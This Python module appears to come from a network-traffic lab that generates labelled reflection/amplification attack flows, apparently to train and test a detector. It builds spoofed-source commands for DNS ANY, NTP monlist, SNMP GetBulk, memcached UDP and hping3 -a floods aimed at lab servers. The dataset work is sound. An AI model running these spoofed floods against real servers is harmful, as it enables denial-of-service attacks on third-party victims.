"""Reflection / amplification: requests spoofed as the victim make lab servers flood it.

The lab's servers (roles r1, r2: dnsmasq with large TXT records, an NTP server that still
answers monlist, snmpd, memcached with UDP on) answer requests whose source address is
the victim's, so their (larger) replies land on the victim, which never asked. The
attacker's address appears in no flow; the flows are labelled by the pair victim <->
reflector (`match="pair"`). Senders: `trafficlab.spoof` (a raw socket, bounded by count
and rate) and, held out, hping3 -a with the request as a payload file.
"""
from __future__ import annotations

import random

from trafficlab.attacks.base import Scenario, Target, Variant, run
from trafficlab.spoof import dns_query

REFLECTED_NAMES = ("corp.internal", "files.corp.internal", "_spf.corp.internal")


def _reflectors(rng: random.Random, t: Target) -> list[str]:
    servers = list(t.servers)
    rng.shuffle(servers)
    return servers[: rng.randint(1, len(servers))] if servers else []


def spoofed(kind: str):
    """trafficlab.spoof with a seeded rate, count, reflector set and request shape."""
    def plan(rng: random.Random, n: int, t: Target):
        peers = _reflectors(rng, t)
        rate = rng.choice([100, 200, 400, 800] if kind != "memcached" else [50, 100, 200])
        fixed = rng.random() < 0.2
        argv = ["python3", "-m", "trafficlab.spoof", "--src", t.victim, "--dst", ",".join(peers),
                "--kind", kind, "--count", str(n), "--rate", str(rate), "--seed", str(rng.getrandbits(32))]
        params: dict = {"reflectors": peers, "count": n, "rate": rate}
        if fixed:
            port = rng.choice([80, 443, 53, 123, rng.randint(1024, 65000)])
            argv += ["--sport", str(port)]
            params["src_port"] = port
        if kind == "dns":
            name, qtype = rng.choice(REFLECTED_NAMES), rng.choice([255, 255, 16])
            argv += ["--qname", name, "--qtype", str(qtype)]
            params.update(qname=name, qtype={255: "ANY", 16: "TXT"}[qtype])
        elif kind == "ntp":
            mode = rng.choice([7, 7, 7, 3])
            argv += ["--ntp-mode", str(mode)]
            params["ntp_mode"] = mode
        elif kind == "snmp":
            reps = rng.randint(12, 30)
            argv += ["--reps", str(reps)]
            params["max_repetitions"] = reps
        else:
            cmd = rng.choice(["stats", "get blob1", "get blob2 blob3", "stats slabs"])
            argv += ["--memcached", cmd]
            params["command"] = cmd
        # One flow per request (random source ports) or per reflector (a fixed one).
        expected = len(peers) if fixed else n
        return run(argv, n / rate * 2 + 15, n * 20, expected, params, match="pair", peers=peers)
    return plan


def hping3_dns(rng: random.Random, n: int, t: Target):
    """hping3 --udp -a VICTIM with a DNS ANY query as payload, to one reflector."""
    peers = _reflectors(rng, t)[:1]
    name = rng.choice(REFLECTED_NAMES)
    query = dns_query(rng, name, 255)
    interval = rng.choice([1000, 2000, 4000])
    argv = ["hping3", "--udp", "-q", "-n", "-a", t.victim, "-p", "53", "-s", str(rng.randint(1024, 60000)),
            "-E", "dns-query.bin", "-d", str(len(query)), "-i", f"u{interval}", "-c", str(n), peers[0]]
    return run(argv, n * interval / 1e6 * 2 + 15, n * 20, n,
               {"reflectors": peers, "qname": name, "count": n, "interval_us": interval},
               files={"dns-query.bin": query}, match="pair", peers=peers)


REFLECTION = Scenario("reflection", "spoofed requests to lab DNS/NTP/SNMP/memcached servers; "
                      "the replies flood the victim", (
    Variant("dns_any", "train", "trafficlab.spoof --kind dns", "DNS ANY/TXT with EDNS0 to dnsmasq",
            spoofed("dns"), ("python3",)),
    Variant("ntp_monlist", "train", "trafficlab.spoof --kind ntp", "NTP monlist (mode 7) / mode 3",
            spoofed("ntp"), ("python3",)),
    Variant("snmp_getbulk", "train", "trafficlab.spoof --kind snmp", "SNMPv2c GetBulk to snmpd",
            spoofed("snmp"), ("python3",)),
    Variant("memcached", "heldout", "trafficlab.spoof --kind memcached", "memcached UDP stats/get",
            spoofed("memcached"), ("python3",)),
    Variant("dns_hping3", "heldout", "hping3 --udp -a VICTIM -E query", "hping3 with a DNS payload file",
            hping3_dns, ("hping3",)),
), runs=(3, 4))
